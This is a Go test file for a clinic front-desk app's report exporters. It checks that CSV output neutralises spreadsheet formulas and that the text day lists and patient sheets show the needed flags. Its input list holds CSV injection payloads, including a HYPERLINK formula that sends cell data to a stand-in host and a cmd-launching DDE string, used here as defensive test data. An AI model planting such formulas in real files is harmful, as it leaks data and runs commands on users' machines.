package report

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"
	"time"

	"github.com/healthprep/desk/agent/api"
)

// Cells from Epic or an imported file that a spreadsheet would run as a
// formula come out inert: a leading single quote, and every cell quoted.
func TestDayCSVNeutralisesFormulas(t *testing.T) {
	evil := []string{`=HYPERLINK("http://x.example/?"&A1,"Click")`, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)", "\t=1", "\r=1"}
	d := api.DayList{Date: "2026-11-24"}
	for _, e := range evil {
		d.Rows = append(d.Rows, api.DayRow{Time: time.Date(2026, 11, 24, 8, 0, 0, 0, time.UTC), PatientName: e, MRN: e, VisitType: e, Provider: e, Status: "booked"})
	}
	d.Rows = append(d.Rows, api.DayRow{Time: time.Date(2026, 11, 24, 9, 0, 0, 0, time.UTC), PatientName: `Ann "Nan" O'Neil, Jr`, VisitType: "Annual"})
	var b bytes.Buffer
	if err := WriteDayCSV(&b, d); err != nil {
		t.Fatal(err)
	}
	for _, line := range strings.Split(strings.TrimSuffix(b.String(), "\r\n"), "\r\n") {
		if !strings.HasPrefix(line, `"`) || !strings.HasSuffix(line, `"`) {
			t.Fatalf("a cell is not quoted: %q", line)
		}
	}
	recs, err := csv.NewReader(&b).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(recs) != len(d.Rows)+1 {
		t.Fatalf("%d records for %d rows", len(recs), len(d.Rows))
	}
	for i, e := range evil {
		rec := recs[i+1]
		for _, col := range []int{2, 3, 6, 7} {
			if rec[col] != "'"+e {
				t.Errorf("row %d column %d = %q, want %q", i+1, col, rec[col], "'"+e)
			}
		}
	}
	if last := recs[len(recs)-1]; last[2] != `Ann "Nan" O'Neil, Jr` || last[6] != "Annual" {
		t.Fatalf("a harmless cell was changed: %q", last)
	}
}

// The text forms say what the front desk must not miss: a cancelled visit,
// a note once, a result's attention and check flags, every section.
func TestTextForms(t *testing.T) {
	at := time.Date(2026, 11, 24, 8, 30, 0, 0, time.UTC)
	age := 58
	d := api.DayList{Date: "2026-11-24", Rows: []api.DayRow{
		{Time: at, PatientName: "Ann Lee", Status: "cancelled", Inactive: true, Counts: api.Counts{Due: 2}},
		{Time: at, PatientName: "Bo Chan", Status: "booked", NotFetched: true},
	}}
	var day bytes.Buffer
	if err := WriteDayText(&day, d); err != nil {
		t.Fatal(err)
	}
	for _, want := range []string{"not synced", "Ann Lee [cancelled]", "Bo Chan (could not be fetched)"} {
		if !strings.Contains(day.String(), want) {
			t.Errorf("day text lacks %q:\n%s", want, day.String())
		}
	}
	var csvOut bytes.Buffer
	if err := WriteDayCSV(&csvOut, d); err != nil || strings.Count(csvOut.String(), "\n") != len(d.Rows)+1 {
		t.Fatalf("csv: %v\n%s", err, csvOut.String())
	}

	s := api.Sheet{Date: "2026-11-24", Time: at, VisitType: "Annual Physical", Provider: "Ada Park, MD",
		Patient: api.SheetPatient{Name: "Grace Okafor", MRN: "2001234", Age: &age, Sex: "female"},
		Notes:   []string{"The birth date is not recorded in Epic: 12 screenings wait for it."},
		Results: []api.Result{
			{Title: "Diabetes (A1C)", Status: "complete", LastDone: at.AddDate(0, -1, 0), Reason: "done", Attention: "poor control: 9.8 % on 2026-10-24"},
			{Title: "Colorectal cancer", Status: "due", Reason: "none on record", Missing: "birth date", Review: true, ReviewNote: "a title matched"},
		},
		Conditions:    []api.Line{{Title: "Type 2 diabetes", Date: at.AddDate(-5, 0, 0)}},
		Immunizations: []api.Line{{Title: "Hepatitis B", Detail: "3 doses"}},
	}
	var sheet bytes.Buffer
	if err := WriteSheetText(&sheet, s); err != nil {
		t.Fatal(err)
	}
	out := sheet.String()
	for _, want := range []string{"MRN 2001234", "Annual Physical with Ada Park, MD", "[attention: poor control: 9.8 % on 2026-10-24]",
		"[check: a title matched]", "DUE", "Active conditions:", "Hepatitis B - 3 doses", "Recent labs:\n  none in the period shown"} {
		if !strings.Contains(out, want) {
			t.Errorf("sheet text lacks %q:\n%s", want, out)
		}
	}
	if c := strings.Count(out, "not recorded in Epic"); c != 1 {
		t.Fatalf("the note is said %d times:\n%s", c, out)
	}
}
